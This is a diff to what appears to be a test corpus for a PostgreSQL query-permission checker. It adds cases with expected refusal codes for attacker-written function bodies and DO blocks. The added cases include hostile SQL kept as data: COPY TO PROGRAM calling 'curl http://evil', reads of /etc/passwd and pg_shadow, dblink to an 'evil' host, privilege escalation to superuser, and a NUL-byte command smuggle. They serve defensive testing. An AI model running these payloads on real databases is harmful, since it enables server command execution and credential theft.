@@ -421,7 +421,7 @@ onAll("dangerous_function",
 );
 onAll("copy_program", "COPY album TO PROGRAM 'curl http://evil'", "COPY album FROM PROGRAM 'cat /etc/passwd'", "COPY album TO '/tmp/album.csv'", "COPY (SELECT 1) TO '/tmp/x'", "COPY album FROM '/etc/passwd'");
 onAll("copy", "COPY album TO STDOUT", "COPY (SELECT * FROM album) TO STDOUT WITH CSV", "COPY album FROM STDIN");
-onAll("do_block", "DO $$ BEGIN PERFORM pg_sleep(1); END $$", "DO 'BEGIN DELETE FROM album; END'");
+on(["read", "open", "write", "custom", "adminHiding"], "do_block", "DO $$ BEGIN PERFORM pg_sleep(1); END $$", "DO 'BEGIN DELETE FROM album; END'");
 onAll("prepared_statement", "PREPARE p AS DELETE FROM album", "EXECUTE p", "DEALLOCATE ALL", "PREPARE q(int) AS SELECT $1");
 onAll("listen_notify", "LISTEN ch", "NOTIFY ch, 'x'", "UNLISTEN *");
 onAll("lock_table", "LOCK TABLE album IN ACCESS EXCLUSIVE MODE");
@@ -841,5 +841,83 @@ on(["read", "custom"], "ok", "EXPLAIN (VERBOSE false) SELECT 1", "EXPLAIN (VERBO
 on(["read", "write", "full"], "function_not_allowed", "SELECT lastval()", "SELECT currval('ticket_seq')", "SELECT currval('audit_log_id_seq')");
 
 on(["full", "adminHiding", "read"], "session_state", "CREATE TEMP TABLE album AS SELECT 1 AS x", "CREATE TEMPORARY VIEW album AS SELECT 1", "CREATE TABLE pg_temp.album (x int)");
+
+// ------------------------------------------------------------------ an attacker with a full (admin) link writes code
+// Function bodies and DO blocks are compiled with the server's PL/pgSQL grammar; every statement and
+// expression inside is checked against the scope, so no escape refused at the top level works inside.
+on("full", "ok",
+  "DO $$ BEGIN DELETE FROM album WHERE false; END $$",
+  "DO 'BEGIN DELETE FROM album WHERE false; END'",
+  "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM track; IF n > 0 THEN UPDATE genre SET name = name WHERE genre_id = -1; END IF; END $$",
+  "CREATE FUNCTION album_count(a int) RETURNS bigint LANGUAGE plpgsql AS $$ DECLARE n bigint := 0; BEGIN n := (SELECT count(*) FROM track WHERE album_id = a); RETURN n; END $$",
+  "CREATE FUNCTION titles() RETURNS SETOF text LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN FOR r IN SELECT title FROM album LOOP RETURN NEXT r.title; END LOOP; END $$",
+  "CREATE FUNCTION twice(x int) RETURNS int LANGUAGE sql AS 'SELECT x * 2'",
+  "CREATE FUNCTION thrice(x int) RETURNS int LANGUAGE sql RETURN x * 3",
+  "CREATE FUNCTION newest() RETURNS SETOF album LANGUAGE sql BEGIN ATOMIC SELECT * FROM album ORDER BY album_id DESC LIMIT 1; END",
+  "CREATE PROCEDURE touch_genre() LANGUAGE plpgsql AS $$ BEGIN UPDATE genre SET name = name WHERE false; COMMIT; END $$",
+  "CREATE FUNCTION g() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1'",
+);
+on("full", "dynamic_sql",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END $$",
+  "CREATE FUNCTION pwn(c text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE c; END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('SELECT %s', 1); END $$",
+  "CREATE FUNCTION pwn() RETURNS SETOF record LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT 1'; END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END $$",
+  "DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET log_statement = ''none'''; END $$",
+  "DO $$ BEGIN IF true THEN BEGIN EXECUTE 'SELECT 1'; END; END IF; END $$",
+);
+on("full", "copy_program",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO PROGRAM 'id'; END $$",
+  "DO $$ BEGIN COPY album FROM '/etc/passwd'; END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE sql AS $$ COPY (SELECT 1) TO PROGRAM 'id' $$",
+);
+on("full", "dangerous_function",
+  "CREATE FUNCTION pwn() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/etc/passwd'); END $$",
+  "CREATE FUNCTION pwn() RETURNS text LANGUAGE plpgsql AS $$ DECLARE t text := pg_read_file('/etc/passwd'); BEGIN RETURN t; END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE t text; BEGIN t := set_config('role', 'postgres', false); END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE a text[]; BEGIN a[(SELECT length(pg_read_file('/etc/passwd')))] := 'x'; END $$",
+  "CREATE FUNCTION pwn() RETURNS bigint LANGUAGE sql AS 'SELECT lo_import(''/etc/passwd'')::bigint'",
+  "CREATE FUNCTION pwn() RETURNS text LANGUAGE sql RETURN pg_read_file('/etc/passwd')",
+  "CREATE FUNCTION pwn() RETURNS SETOF text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('/etc/passwd'); END",
+  "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
+  "DO $$ BEGIN PERFORM dblink_exec('host=evil', 'x'); END $$",
+  "DO $$ DECLARE c CURSOR FOR SELECT pg_ls_dir('/'); BEGIN END $$",
+  "DO $$ BEGIN IF pg_terminate_backend(1) THEN NULL; END IF; END $$",
+  "DO $$ BEGIN RAISE NOTICE '%', pg_read_file('/etc/passwd'); END $$",
+  "DO $$ BEGIN DO $i$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $i$; END $$",
+  "DO $$ BEGIN CREATE FUNCTION inner_pwn() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')'; END $$",
+);
+on("full", "alter_system", "DO $$ BEGIN ALTER SYSTEM SET log_statement = 'none'; END $$");
+on("full", "load_library", "CREATE PROCEDURE pwn() LANGUAGE plpgsql AS $$ BEGIN LOAD '/tmp/evil.so'; END $$");
+on("full", "session_state",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN SET ROLE postgres; END $$",
+  "DO $$ BEGIN SET SESSION AUTHORIZATION postgres; END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE sql AS 'RESET ROLE'",
+  "CREATE FUNCTION pwn() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'",
+  "ALTER FUNCTION add_one(int) SET role = postgres",
+);
+on("full", "role_management",
+  "DO $$ BEGIN ALTER ROLE CURRENT_USER SUPERUSER; END $$",
+  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN GRANT pg_execute_server_program TO CURRENT_USER; END $$",
+);
+on("full", "create_extension", "DO $$ BEGIN CREATE EXTENSION dblink; END $$");
+on("full", "server_escape", "DO $$ BEGIN CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f(); END $$");
+on("full", "catalog_denied", "CREATE FUNCTION pwn() RETURNS SETOF text LANGUAGE sql AS 'SELECT passwd FROM pg_shadow'");
+on("full", "code_creation",
+  "ALTER FUNCTION add_one(int) SECURITY DEFINER",
+  "CREATE FUNCTION pwn() RETURNS int LANGUAGE plperl AS 'return 1'",
+  "CREATE FUNCTION pwn() RETURNS int LANGUAGE internal AS 'int4inc'",
+  "CREATE FUNCTION pwn() RETURNS int LANGUAGE plpgsql AS $$ BEGIN FOR undeclared IN SELECT 1 LOOP END LOOP; RETURN 1; END $$",
+);
+on("full", "do_block", "DO LANGUAGE plperlu $$ system('id') $$");
+on("full", "deferred_code",
+  "CREATE TRIGGER t BEFORE INSERT ON album FOR EACH ROW EXECUTE FUNCTION bump_genre()",
+  "CREATE RULE r AS ON INSERT TO album DO ALSO DELETE FROM genre",
+  "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
+  "DO $$ BEGIN CREATE TRIGGER t BEFORE INSERT ON album FOR EACH ROW EXECUTE FUNCTION bump_genre(); END $$",
+);
+// A NUL byte: the parser stops at it, so the checker would see only the text before it.
+onAll("control_character", "SELECT 1\u0000; COPY album TO PROGRAM 'id'", "SELECT title FROM album\u0000", "\u0000DROP TABLE album");
 
 export const CORPUS: readonly Case[] = cases;
